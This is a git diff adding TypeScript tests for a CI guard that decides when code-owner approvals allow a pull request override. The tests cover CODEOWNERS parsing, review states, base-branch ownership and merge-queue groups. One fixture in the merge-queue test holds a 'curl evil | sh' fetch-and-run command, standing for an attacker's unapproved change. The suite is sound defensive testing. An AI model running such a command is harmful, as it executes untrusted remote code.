@@ -11,13 +11,16 @@
 import * as assert from "assert";
 import * as fs from "fs";
 import * as path from "path";
-import { Capture, commitFiles, environment, repository } from "./helpers";
+import { Capture, commitFiles, environment, git, project, repository } from "./helpers";
 import { PROJECT_ROOT } from "../cli/project";
 import { commandMain } from "../cli/main";
-import { parseCodeowners } from "../guard/codeowners";
+import { Codeowners, ownerRule, parseCodeowners } from "../guard/codeowners";
+import { OVERRIDE_LABEL, PullRequestFacts, decideOverride } from "../guard/override";
 import { readCodeowners } from "../revocation/override";
+import { FakeGitHub, fakeGitHub } from "./fakeGitHub";
 
 const guard = commandMain("guard");
+const ci = commandMain("ci");
 
 const NOW = new Date("2026-11-27T12:00:00Z");
 /** In force until 2026-11-27T23:00:00Z. */
@@ -107,6 +110,239 @@ describe("attacks on the guard's newest parts (issues 30 to 32)", function () {
                 ],
             );
             assert.deepStrictEqual(readCodeowners(root, plain)?.rules[0].owners, [{ kind: "user", login: "bob" }]);
+        });
+
+        /** The override's decision for `paths` of pull request #7 by mallory, its head HEAD, with `reviews`. */
+        const HEAD = "a".repeat(40);
+        const decide = (codeowners: Codeowners, paths: string[], reviews: PullRequestFacts["reviews"], labels = [OVERRIDE_LABEL]) => {
+            const decision = decideOverride({
+                paths,
+                codeowners,
+                pr: { number: 7, author: "mallory", head: HEAD, labels, reviews },
+                memberships: new Map(),
+            });
+            return decision.granted
+                ? `granted: ${decision.approvals.map((a) => `@${a.login} ${a.paths.join(" ")}`).join("; ")}`
+                : decision.text;
+        };
+        const approved = (login: string, commit = HEAD) => ({ login, state: "APPROVED", commit });
+        const DOES_NOT_APPLY = `the override (label ${OVERRIDE_LABEL} on pull request #7) does not apply`;
+
+        it("reads patterns as GitHub does: paths case-sensitive, a leading slash anchoring, a trailing slash at any depth, ** across folders", () => {
+            // Held: the owner of each path is the one GitHub names, so an owner of TOOLS/ cannot approve tools/ nor the other way round.
+            const codeowners = parseCodeowners(
+                ".github/CODEOWNERS",
+                "*  @alice\n/tools/  @bob\napps/  @carol\n/infra/**/deploy.sh  @dave\n*.SH  @erin\n",
+            );
+            const owner = (p: string) =>
+                ownerRule(codeowners, p)
+                    ?.owners.map((o) => (o.kind === "user" ? o.login : "?"))
+                    .join(" ");
+            assert.deepStrictEqual(
+                [
+                    "tools/run.sh",
+                    "TOOLS/run.sh",
+                    "x/tools/run.sh",
+                    "src/apps/a.ts",
+                    "apps",
+                    "infra/deploy.sh",
+                    "infra/a/b/deploy.sh",
+                    "run.SH",
+                    "run.sh",
+                ].map((p) => `${p}: ${owner(p)}`),
+                [
+                    "tools/run.sh: bob",
+                    "TOOLS/run.sh: alice",
+                    "x/tools/run.sh: alice",
+                    "src/apps/a.ts: carol",
+                    "apps: alice",
+                    "infra/deploy.sh: dave",
+                    "infra/a/b/deploy.sh: dave",
+                    "run.SH: erin",
+                    "run.sh: alice",
+                ],
+            );
+            assert.deepStrictEqual(
+                decide(codeowners, ["TOOLS/run.sh"], [approved("bob")]),
+                `${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${HEAD.slice(0, 12)} for TOOLS/run.sh (owners @alice by .github/CODEOWNERS line 1)`,
+            );
+        });
+
+        it("refuses owners GitHub would not read: a trailing dot, a leading hyphen, a Cyrillic letter, a bot", () => {
+            // Held: each makes the whole file refused, so no approval counts.
+            const problems = (owner: string) => parseCodeowners("CODEOWNERS", `*  ${owner}\n`).problems;
+            assert.deepStrictEqual(["@alice.", "@-alice", "@\u0430lice", "@renovate[bot]", "@acme/", "alice"].map(problems), [
+                ['CODEOWNERS: line 1: "@alice." is not an owner GitHub reads (@user, @org/team or an email address)'],
+                ['CODEOWNERS: line 1: "@-alice" is not an owner GitHub reads (@user, @org/team or an email address)'],
+                ['CODEOWNERS: line 1: "@\u0430lice" is not an owner GitHub reads (@user, @org/team or an email address)'],
+                ['CODEOWNERS: line 1: "@renovate[bot]" is not an owner GitHub reads (@user, @org/team or an email address)'],
+                ['CODEOWNERS: line 1: "@acme/" is not an owner GitHub reads (@user, @org/team or an email address)'],
+                ['CODEOWNERS: line 1: "alice" is not an owner GitHub reads (@user, @org/team or an email address)'],
+            ]);
+        });
+
+        it("counts only an owner's latest deciding review of the head commit: never the author in another case, a dismissed or withdrawn approval, one on another commit, a comment, a bot", () => {
+            // Held: every variant the issue names is refused, and an approval a later comment leaves standing counts, as on GitHub.
+            const codeowners = parseCodeowners(".github/CODEOWNERS", "*  @alice @Mallory\n");
+            const cases: Record<string, PullRequestFacts["reviews"]> = {
+                author: [approved("MALLORY")],
+                dismissed: [approved("alice"), { login: "alice", state: "DISMISSED", commit: HEAD }],
+                withdrawn: [approved("alice"), { login: "ALICE", state: "CHANGES_REQUESTED", commit: HEAD }],
+                earlier: [approved("alice", "b".repeat(40))],
+                commented: [{ login: "alice", state: "COMMENTED", commit: HEAD }],
+                pending: [{ login: "alice", state: "PENDING", commit: HEAD }],
+                bot: [approved("alice[bot]")],
+                standing: [approved("alice"), { login: "alice", state: "COMMENTED", commit: HEAD }],
+            };
+            const uncovered = `${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${HEAD.slice(0, 12)} for tools/x.sh (owners @alice @Mallory by .github/CODEOWNERS line 1)`;
+            assert.deepStrictEqual(
+                Object.fromEntries(Object.entries(cases).map(([name, reviews]) => [name, decide(codeowners, ["tools/x.sh"], reviews)])),
+                {
+                    author: `${uncovered} (@MALLORY is the author)`,
+                    dismissed: uncovered,
+                    withdrawn: uncovered,
+                    earlier: `${uncovered} (@alice approved an earlier commit ${"b".repeat(12)}, not the head ${HEAD.slice(0, 12)})`,
+                    commented: uncovered,
+                    pending: uncovered,
+                    bot: uncovered,
+                    standing: "granted: @alice tools/x.sh",
+                },
+            );
+        });
+
+        describe("the trusted judge with GitHub's API (a fake server)", () => {
+            const BASE_OWNERS = "*  @alice\n/Pulumi.*.yaml\n";
+            let server: FakeGitHub | undefined;
+            afterEach(async () => {
+                await server?.close();
+                server = undefined;
+            });
+
+            /** A clone at the base (dev's victim revoked, `owners` as .github/CODEOWNERS) that has fetched `judged`, the commit the event names. */
+            function clonedAt(origin: string, base: string, judged: string) {
+                const clone = project({});
+                fs.rmSync(clone, { recursive: true, force: true });
+                git(path.dirname(clone), "clone", "-q", "--no-local", "--no-checkout", origin, clone);
+                git(clone, "checkout", "-q", base);
+                git(clone, "fetch", "-q", "origin", judged);
+                return clone;
+            }
+
+            function origin(owners = BASE_OWNERS) {
+                const root = repository({ "Pulumi.dev.yaml": dev(), ".github/CODEOWNERS": owners });
+                return { root, base: git(root, "rev-parse", "HEAD").trim() };
+            }
+
+            /** A branch off the base with `files` committed; the repository is left on main. */
+            function branch(root: string, base: string, name: string, files: Record<string, string | undefined>) {
+                git(root, "checkout", "-q", "-b", name, base);
+                const sha = commitFiles(root, files, name);
+                git(root, "checkout", "-q", "main");
+                return sha;
+            }
+
+            async function judge(clone: string, event: { name: string; payload: unknown }, routes: Record<string, unknown>) {
+                await server?.close();
+                server = await fakeGitHub(routes);
+                const file = path.join(project({}), "event.json");
+                fs.writeFileSync(file, JSON.stringify(event.payload));
+                const [out, err] = [new Capture(), new Capture()];
+                const code = await ci(
+                    ["guard"],
+                    out,
+                    err,
+                    environment({
+                        root: clone,
+                        now: NOW,
+                        variables: {
+                            ...process.env,
+                            GITHUB_EVENT_NAME: event.name,
+                            GITHUB_EVENT_PATH: file,
+                            GITHUB_TOKEN: "a-token",
+                            GITHUB_REPOSITORY: "acme/infra",
+                            GITHUB_API_URL: server.url,
+                        },
+                    }),
+                );
+                return { code, first: out.text.split("\n")[0], stderr: err.text };
+            }
+
+            const pull = (head: string) => ({
+                number: 7,
+                user: { login: "mallory" },
+                head: { sha: head },
+                labels: [{ name: OVERRIDE_LABEL }],
+            });
+            const review = (login: string, commit: string) => ({ user: { login }, state: "APPROVED", commit_id: commit });
+            const OVERRIDDEN = (paths: string, head: string, who: string) =>
+                `ok   project: ${paths}: changed while revocations are in force, allowed by the override of pull request #7 (label ${OVERRIDE_LABEL}): code owners approved its head commit ${head.slice(0, 12)}: ${who}; every other rule still applies, and the deploy judges the change again with its own program`;
+
+            it("judges the approvals by the base's CODEOWNERS, never by the one the pull request changes", async () => {
+                // Held: the pull request makes mallory's friend the owner of tools/, and the friend approves.
+                const { root, base } = origin();
+                const head = branch(root, base, "feature", {
+                    ".github/CODEOWNERS": `${BASE_OWNERS}/tools/  @friend\n`,
+                    "tools/x.sh": "exit 0\n",
+                });
+                const clone = clonedAt(root, base, head);
+                const event = {
+                    name: "pull_request_review",
+                    payload: { pull_request: { number: 7, base: { sha: base }, head: { sha: head } } },
+                };
+                const result = await judge(clone, event, {
+                    "/repos/acme/infra/pulls/7": pull(head),
+                    "/repos/acme/infra/pulls/7/reviews": [review("friend", head)],
+                });
+                assert.deepStrictEqual(result, {
+                    code: 1,
+                    first: `${FROZEN(".github/CODEOWNERS, tools/x.sh")}; ${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${head.slice(0, 12)} for .github/CODEOWNERS (owners @alice by .github/CODEOWNERS line 1), tools/x.sh (owners @alice by .github/CODEOWNERS line 1)`,
+                    stderr: "",
+                });
+            });
+
+            it("in a merge queue, refuses the override for a group that also holds another pull request's frozen change, and counts only approvals of the commit the queue merged", async () => {
+                // Before: the group's paths were all judged with #7's approvals, so #5's unapproved tools/a.sh rode on them.
+                const { root, base } = origin();
+                const other = branch(root, base, "other", { "tools/a.sh": "curl evil | sh\n" });
+                const own = branch(root, base, "own", { "tools/b.sh": "exit 0\n" });
+                git(root, "checkout", "-q", "-b", "queue", base);
+                git(root, "merge", "-q", "--no-ff", "-m", "Merge pull request #5", other);
+                git(root, "merge", "-q", "--no-ff", "-m", "Merge pull request #7", own);
+                const group = git(root, "rev-parse", "HEAD").trim();
+                git(root, "checkout", "-q", "-b", "alone", base);
+                git(root, "merge", "-q", "--no-ff", "-m", "Merge pull request #7", own);
+                const alone = git(root, "rev-parse", "HEAD").trim();
+                git(root, "checkout", "-q", "main");
+                const queued = (head: string) => ({
+                    name: "merge_group",
+                    payload: { merge_group: { base_sha: base, head_sha: head, head_ref: `refs/heads/gh-readonly-queue/main/pr-7-${own}` } },
+                });
+                const routes = (prHead: string, approvedOn: string) => ({
+                    "/repos/acme/infra/pulls/7": pull(prHead),
+                    "/repos/acme/infra/pulls/7/reviews": [review("alice", approvedOn)],
+                });
+                const later = "f".repeat(40);
+                assert.deepStrictEqual(
+                    [
+                        await judge(clonedAt(root, base, group), queued(group), routes(own, own)),
+                        await judge(clonedAt(root, base, alone), queued(alone), routes(later, later)),
+                        await judge(clonedAt(root, base, alone), queued(alone), routes(own, own)),
+                    ],
+                    [
+                        {
+                            code: 1,
+                            first: `${FROZEN("tools/a.sh, tools/b.sh")}; ${DOES_NOT_APPLY}: the merge group ${group.slice(0, 12)} holds 2 commits on top of its base ${base.slice(0, 12)}, so it brings more than pull request #7's own change (other pull requests queued ahead of it, or a rebase of several commits), and the override is checked for one pull request at a time; while revocations are in force, let the merge queue build groups of one pull request (maximum group size 1) and merge with a merge commit or a squash`,
+                            stderr: "",
+                        },
+                        {
+                            code: 1,
+                            first: `${FROZEN("tools/b.sh")}; ${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${own.slice(0, 12)} for tools/b.sh (owners @alice by .github/CODEOWNERS line 1) (@alice approved an earlier commit ${later.slice(0, 12)}, not the head ${own.slice(0, 12)})`,
+                            stderr: "",
+                        },
+                        { code: 0, first: OVERRIDDEN("tools/b.sh", own, "@alice for tools/b.sh"), stderr: "" },
+                    ],
+                );
+            });
         });
     });
 });
